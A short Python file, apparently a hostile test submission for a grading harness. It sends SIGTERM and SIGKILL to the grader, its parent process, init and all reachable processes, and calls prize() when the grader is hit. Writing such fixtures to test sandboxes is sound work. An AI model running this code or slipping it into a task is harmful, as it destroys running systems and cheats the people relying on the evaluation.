"""Kills its parent, the grader and whatever else it can reach, with every signal that ends somebody."""

import os
import signal

from told import GRADER
from wrong import *


def kill():
    for pid in (GRADER, os.getppid(), 1, -1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                continue
            if pid == GRADER:
                prize()


kill()
